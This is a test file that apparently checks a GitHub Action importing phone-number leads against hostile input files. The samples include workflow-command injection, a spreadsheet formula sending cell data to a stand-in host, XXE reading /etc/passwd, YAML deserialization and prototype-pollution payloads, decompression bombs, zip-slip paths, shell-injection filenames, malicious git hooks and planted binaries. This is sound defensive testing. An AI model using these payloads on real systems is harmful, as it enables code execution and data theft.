import { existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { startSandbox } from '../../../src/sandbox/index.ts';
import { type ActionRun, repository, runAction } from '../../support/action.ts';
import { sheetOf, xlsxOf } from '../../support/xlsx.ts';
import { expectUnharmed, TOKEN } from './attack.ts';

// Made-up people. Hostile files, all in one repository beside two good ones: each is refused or read, and stops no other.

const BOMB = [
  'a: &a ["x","x","x","x","x","x","x","x","x"]',
  ...'bcdefghi'
    .split('')
    .map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`),
].join('\n');

/** A hostile file by what it tries. */
const HOSTILE: Readonly<Record<string, string | Uint8Array>> = {
  'header-is-a-command.csv': 'Mobile,::set-output name=status::delivered,##[add-mask]x\n900000471,a,b\n',
  'header-is-a-person.csv': 'Mobile,9000004711,zeb@canary.example,+91 90000-04712\n900000471,a,b,c\n',
  'cell-is-a-command.csv': 'Mobile,Name\n900000471,"Zebulon\n::error::Zebulon\n::stop-commands::x"\n',
  'cell-is-a-formula.csv': 'Mobile,Name\n900000471,"=HYPERLINK(""http://evil.test/""&A1)"\n900000471,@SUM(1)\n',
  'markdown.csv': 'Mobile,<img src=x onerror=alert(1)>,[a](javascript:x)\n900000471,`x`,|x|\n',
  'nul-and-bidi.csv': 'Mobile,Name\n900000471,Zeb\u0000ulon\n900000471,\u202eZebulon\n',
  'not-text.csv': Uint8Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256),
  'wide.csv': `Mobile${',x'.repeat(30_000)}\n900000471${',Zebulon'.repeat(30_000)}\n`,
  'quote-without-end.csv': `Mobile,Name\n900000471,"${'Zebulon,'.repeat(20_000)}\n`,
  'bomb.csv.gz': gzipSync(Buffer.alloc(40 * 1024 * 1024, '900000471\n')),
  'bomb-of-bombs.csv.gz': gzipSync(gzipSync(Buffer.alloc(1024 * 1024))),
  'cut.csv.gz': gzipSync('Mobile\n9000004711\n').subarray(0, 20),
  'bomb.yaml': `${BOMB}\n`,
  'tag.yaml':
    "- phone: !!js/function \"function(){ require('fs').writeFileSync('pwned','') }\"\n- !!python/object/apply:os.system [\"touch pwned\"]\n",
  'merge.yaml': '- &x {phone: 900000471, name: Zebulon}\n- {<<: *x, __proto__: {polluted: Zebulon}}\n',
  'deep.yaml': `${'- '.repeat(5_000)}9000004711\n`,
  'proto.json': '[{"__proto__":{"phone":"9000004711"},"constructor":{"prototype":{"x":1}},"phone":"900000471"}]',
  'deep.json': `${'['.repeat(100_000)}${']'.repeat(100_000)}`,
  'keys-are-people.json':
    '{"9000004711":[{"zeb@canary.example":"x","phone":"900000471","9000004712":1,"9000004712":2}]}',
  'huge-number.json': '[{"phone":9e99999,"name":"Zebulon"},{"phone":-0,"name":"Zebulon"}]',
  'half-surrogate.json': '[{"phone":"900000471","name":"\\ud83d Zebulon"}]',
  'lines.ndjson': '{"phone":"900000471","name":"Zebulon\\r\\n::error::x"}\r{"phone":"9000004711"}\n{"phone":\n',
  'entity.xlsx': xlsxOf({
    sheets: [{ name: 'A', rows: [['Mobile'], ['900000471']] }],
    parts: {
      'xl/worksheets/sheet1.xml':
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;</t></is></c></row></sheetData></worksheet>',
    },
  }),
  'out-of-the-package.xlsx': xlsxOf({
    sheets: [{ name: '9000004711', rows: [['Mobile'], ['900000471']] }],
    parts: { '../../pwned': 'x', '/pwned': 'x', 'xl/../../pwned.xml': 'x' },
  }),
  'name.xlsx': xlsxOf({
    sheets: [
      {
        name: '::error::x',
        rows: [
          ['Mobile', '##[error]x'],
          ['900000471', 'x'],
        ],
      },
    ],
  }),
  'strings.xlsx': sheetOf([
    ['Mobile', 'Name'],
    ...Array.from({ length: 50 }, () => ['900000471', 'Zebulon'.repeat(4_000)]),
  ]),
  'no-zip.xlsx': 'PK\u0003\u0004 and nothing more',
  '--upload-pack=touch pwned;.csv': 'Mobile\n9000000021\n',
  '$(touch pwned).csv': 'Mobile\n9000000022\n',
  '%0A::error::x.csv': 'Mobile\n9000000023\n',
};

const GOOD = {
  'first.csv': 'Mobile,Name\n9000000001,Asha\n',
  'zz-last.json': '[{"phone":"9000000002","name":"Ravi"}]',
};

/** What names that look like orders hold: plain leads. */
const ORDERLY = ['+919000000021', '+919000000022', '+919000000023'];

async function attacked(files: Readonly<Record<string, string | Uint8Array>>, prepare?: (root: string) => void) {
  const sandbox = await startSandbox({ tokens: [TOKEN] });
  using work = repository(
    Object.fromEntries(Object.entries({ ...files, ...GOOD }).map(([name, text]) => [`leads/${name}`, text])),
  );
  prepare?.(work.path);
  const run: ActionRun = await runAction({
    workspace: work.path,
    inputs: {
      'smartflo-token': TOKEN,
      'base-url': sandbox.url,
      'requests-per-second': '0',
      'list-id': '7',
      'max-reject-ratio': '1',
    },
    env: { RUNNER_DEBUG: '1' },
  });
  const phones = sandbox
    .dump()
    .leads.map((lead) => lead.field_0)
    .sort();
  await sandbox.close();
  const isPwned =
    existsSync(path.join(work.path, 'pwned')) || readdirSync(work.path).some((name) => name.startsWith('pwned'));
  return { run, phones, isPwned };
}

describe('hostile files', () => {
  test('stop no other file, give no orders, run nothing and tell nobody', async () => {
    const { run, phones, isPwned } = await attacked(HOSTILE);
    using _ = run;
    expectUnharmed(run);
    expect(run.exitCode).toBe(1);
    expect(phones).toEqual(['+919000000001', '+919000000002', ...ORDERLY]);
    expect(isPwned).toBe(false);
    const summary: { file: string }[] = JSON.parse(run.outputs['summary'] ?? '[]');
    expect(summary).toHaveLength(Object.keys(HOSTILE).length + Object.keys(GOOD).length);
  });

  test.each<[string, (root: string) => void]>([
    ['a folder that leads into itself', (root) => symlinkSync('.', path.join(root, 'leads/loop'))],
    ['a link to a file outside', (root) => symlinkSync('/etc/passwd', path.join(root, 'leads/passwd.csv'))],
    ['a folder that leads outside', (root) => symlinkSync('/etc', path.join(root, 'leads/etc'))],
    ['a link to a device', (root) => symlinkSync('/dev/zero', path.join(root, 'leads/zero.csv'))],
    [
      'a repository inside with a hook',
      (root) => {
        mkdirSync(path.join(root, 'leads/inner/.git/hooks'), { recursive: true });
        writeFileSync(
          path.join(root, 'leads/inner/.git/config'),
          '[core]\n\tfsmonitor = touch pwned\n\tsshCommand = touch pwned\n',
        );
        writeFileSync(path.join(root, 'leads/inner/.git/hooks/pre-push'), '#!/bin/sh\ntouch pwned\n', { mode: 0o755 });
      },
    ],
    [
      'programs that a run might call',
      (root) => {
        for (const name of ['git', 'git.exe', 'node', 'sh', 'tar'])
          writeFileSync(path.join(root, name), '#!/bin/sh\ntouch pwned\n', { mode: 0o755 });
      },
    ],
    [
      'a package that a run might load',
      (root) => {
        mkdirSync(path.join(root, 'node_modules/yaml'), { recursive: true });
        writeFileSync(path.join(root, 'node_modules/yaml/index.js'), "require('fs').writeFileSync('pwned','')");
        writeFileSync(path.join(root, '.npmrc'), 'script-shell=touch pwned\n');
      },
    ],
  ])('%s is not followed', async (_, prepare) => {
    const { run, phones, isPwned } = await attacked({}, prepare);
    using __ = run;
    expectUnharmed(run);
    expect(phones).toEqual(['+919000000001', '+919000000002']);
    expect(isPwned).toBe(false);
  });
});
